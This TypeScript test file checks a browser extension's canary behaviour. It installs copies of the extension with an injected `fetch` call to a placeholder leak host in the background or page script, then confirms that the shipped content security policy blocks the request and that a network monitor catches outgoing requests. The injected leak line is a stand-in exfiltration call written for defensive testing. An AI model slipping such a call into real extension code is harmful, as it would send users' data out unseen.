import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { eventually } from './harness/eventually.ts';
import { BROWSERS, type BrowserName } from './harness/executables.ts';
import { buildFolder, launch } from './harness/launch.ts';
import { practice } from './practice.ts';

const LEAK = 'https://leak.example.org/from-the-background';
const { url, html } = practice('account-create');

/** A copy of the build that ships, with a line more in one file, and the policy as given. */
function spoiled(name: BrowserName, file: string, line: string, policy: string | undefined): string {
  const folder = mkdtempSync(join(tmpdir(), 'repere-canary-'));
  cpSync(buildFolder(name), folder, { recursive: true });
  const script = join(folder, file);
  writeFileSync(script, `${readFileSync(script, 'utf8')}\n${line}\n`);
  if (policy !== undefined) {
    const manifest = join(folder, 'manifest.json');
    const read: unknown = JSON.parse(readFileSync(manifest, 'utf8'));
    writeFileSync(manifest, JSON.stringify({ ...Object(read), content_security_policy: { extension_pages: policy } }));
  }
  return folder;
}

/** What leaves when a spoiled copy has been installed and has seen an official page. */
async function whatLeaves(
  name: BrowserName,
  extension: string,
  wait: (left: readonly string[]) => boolean,
): Promise<readonly string[]> {
  const driver = await launch(name, { extension });
  try {
    driver.network.serve(url, { html });
    await (await driver.welcome()).close();
    const tab = await driver.newTab();
    await tab.goto(url);
    await eventually(async () => driver.network.requestsThatLeft(), wait);
    return [...driver.network.requestsThatLeft()];
  } finally {
    await driver.close();
    rmSync(extension, { recursive: true });
  }
}

const somethingLeft = (left: readonly string[]): boolean => left.length > 0;
const said = (outcome: string): string => `void fetch('${LEAK}').catch(() => null).then(() => ${outcome});`;

describe.each(BROWSERS)('%s: a background that asks the network', (name) => {
  test('is seen, where the policy allows it', async () => {
    const folder = spoiled(name, 'background.js', said('null'), "script-src 'self'");
    expect(await whatLeaves(name, folder, somethingLeft)).toContain(`GET ${LEAK}`);
  });

  test('is seen when it asks an official host', async () => {
    const line = `void fetch('${url}').catch(() => null);`;
    const folder = spoiled(name, 'background.js', line, "script-src 'self'");
    expect(await whatLeaves(name, folder, somethingLeft)).toContain(`GET ${url}`);
  });

  test('gets nowhere under the policy that ships', async () => {
    // After the attempt has failed, a tab is opened: only then is it known that nothing left.
    const after = "chrome.tabs.create({ url: chrome.runtime.getURL('icon/16.png') })";
    const folder = spoiled(name, 'background.js', said(after), undefined);
    const driver = await launch(name, { extension: folder });
    try {
      const opened = async (): Promise<boolean> => {
        const pages = await driver.browser.pages();
        const places = await Promise.all(pages.map((page) => page.evaluate(() => location.href).catch(() => '')));
        return places.includes(driver.extensionUrl('icon/16.png'));
      };
      await eventually(opened, (there) => there);
      expect(driver.network.requestsThatLeft()).toEqual([]);
    } finally {
      await driver.close();
      rmSync(folder, { recursive: true });
    }
  });

  test('is seen when it is the script in the page', async () => {
    const folder = spoiled(name, 'annotate.js', `void fetch('${LEAK}').catch(() => null);`, undefined);
    expect(await whatLeaves(name, folder, somethingLeft)).toContain(`GET ${LEAK}`);
  });
});
